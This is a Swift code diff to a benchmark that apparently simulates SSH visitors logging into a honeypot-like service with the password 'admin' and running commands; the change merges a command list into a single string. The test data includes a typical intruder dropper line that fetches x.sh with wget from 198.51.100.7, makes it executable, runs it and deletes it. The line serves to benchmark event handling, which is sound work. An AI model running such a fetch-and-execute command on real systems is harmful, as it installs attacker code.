@@ -9,10 +9,9 @@ enum EventSizeBenchmark: Benchmark {
 
     private static let visits = 500
     /// As a script does that has guessed a password.
-    private static let commands = [
-        "uname -a", "cat /proc/cpuinfo | grep name | wc -l",
-        "cd /tmp || cd /var/run; wget http://198.51.100.7/x.sh; chmod 777 x.sh; ./x.sh; rm -rf x.sh",
-    ]
+    private static let command =
+        "uname -a; cat /proc/cpuinfo | grep name | wc -l; cd /tmp || cd /var/run; wget http://198.51.100.7/x.sh; "
+        + "chmod 777 x.sh; ./x.sh; rm -rf x.sh"
 
     static func run(_ bench: Bench) async throws -> [Row] {
         var relay: CountingRelay?
@@ -50,7 +49,7 @@ enum EventSizeBenchmark: Benchmark {
         Visits(atOnce: 8) { source in
             let visitor = try SSHVisitor(to: port, from: source)
             try visitor.logIn(password: "admin")
-            for command in commands { _ = try visitor.run(command) }
+            _ = try visitor.run(command)
             return 0
         }
     }
